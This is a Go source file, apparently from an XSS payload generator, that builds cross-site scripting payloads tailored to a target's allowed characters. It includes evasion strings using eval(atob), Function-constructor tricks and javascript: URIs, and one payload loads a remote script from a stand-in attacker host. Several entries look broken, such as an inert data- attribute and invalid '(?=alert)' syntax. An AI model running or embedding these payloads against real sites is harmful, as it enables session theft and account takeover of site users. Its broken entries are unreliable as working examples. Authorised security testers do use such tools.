package payloads

import (
	"fmt"

	"github.com/lcalzada-xor/xssdynagen/pkg/models"
)

var (
	baseTags      = []string{"script", "img", "svg", "iframe", "video", "audio", "body"}
	eventHandlers = []string{"onload", "onerror", "onmouseover", "onclick", "onmouseenter"}
	jsFunctions   = []string{"alert", "prompt", "confirm", "eval", "atob"}

	// Tags and events that get case and NUL variants
	mutatedTags   = map[string][]string{"script": append(tagMutations("script"), "〈script〉"), "img": tagMutations("img"), "svg": tagMutations("svg")}
	mutatedEvents = map[string][]string{"onload": eventMutations("onload"), "onerror": eventMutations("onerror")}

	// Tags carrying event-attribute variants
	attributeTags = []string{"img", "svg", "iframe"}

	domEvasions = []string{
		"<script>eval(atob(`YWxlcnQoMSk=`))</script>",
		"<script>[].filter.constructor('alert(1)')()</script>",
		"<script>setTimeout`alert\\x28document.domain\\x29`</script>",
		"<script>Object.assign(window,{alert:eval})('1')</script>",
		"<script>new Function\\`alert\\`1\\`\\`</script>",
		"<script>with(document)body.appendChild(createElement`script`).src='//evil.com'</script>",
		"<script>eval.call`${'alert(1)'}`</script>",
	}

	protoEvasions = []string{
		"javascript:void(`alert(1)`)",
		"javascript:(alert)(1)",
		"javascript:new Function\\`alert\\`1\\`\\`",
		"javascript:this",
		"javascript:[][filter][constructor]('alert(1)')()",
		"javascript:alert?.()?.['']",
		"javascript:new%20Function\\`alert\\`1\\`\\`",
		"javascript:(?=alert)w=1,alert(w)",
	}
)

// variants returns name followed by its mutations
func variants(name string, table map[string][]string) []string {
	return append([]string{name}, table[name]...)
}

// Dynamic combines tags, events and functions into payloads. A fragment
// is used only when each of its characters is individually allowed; the
// evasion lists are checked payload by payload.
func Dynamic(p *models.ParamProfile) []string {
	allowed := p.AllowedChars
	var out []string

	if p.AllowsAngles {
		comments := allowed.HasAll("*/")
		nulls := allowed.Has('\x00')

		for _, tag := range baseTags {
			if !allowed.HasAll(tag) {
				continue
			}
			for _, t := range variants(tag, mutatedTags) {
				if !allowed.HasAll(t) || !comments {
					continue
				}
				for _, fn := range jsFunctions {
					if !allowed.HasAll(fn) {
						continue
					}
					out = append(out,
						fmt.Sprintf("<%s>/**/%s(1)/**/", t, fn),
						fmt.Sprintf("<%s>/*-->%s(1)/**/", t, fn),
						fmt.Sprintf("<%s>//%s(1)", t, fn),
					)
				}
			}
			if nulls {
				for _, fn := range jsFunctions {
					if !allowed.HasAll(fn) {
						continue
					}
					out = append(out,
						fmt.Sprintf("<%s\x00>%s(1)", tag, fn),
						fmt.Sprintf("<%s>\x00%s(1)", tag, fn),
					)
				}
			}
		}

		if allowed.Has('=') {
			for _, tag := range attributeTags {
				if !allowed.HasAll(tag) {
					continue
				}
				for _, event := range eventHandlers {
					for _, ev := range variants(event, mutatedEvents) {
						if !allowed.HasAll(ev) {
							continue
						}
						if p.AllowsQuotes {
							out = append(out, fmt.Sprintf("<%s data-%s=\"alert(1)\">", tag, ev))
						}
						if allowed.Has(':') {
							out = append(out, fmt.Sprintf("<%s %s=javascript:alert(1)>", tag, ev))
						}
						if allowed.HasAll("&;") {
							out = append(out, fmt.Sprintf("<%s %s=&quot;alert(1)&quot;>", tag, ev))
						}
					}
				}
			}
		}
	}

	if p.AllowsAngles && p.AllowsScripts {
		for _, e := range domEvasions {
			if allowed.HasAll(e) {
				out = append(out, e)
			}
		}
	}

	if allowed.HasAll("javascript:") {
		for _, e := range protoEvasions {
			if allowed.HasAll(e) {
				out = append(out, e)
			}
		}
	}

	return out
}
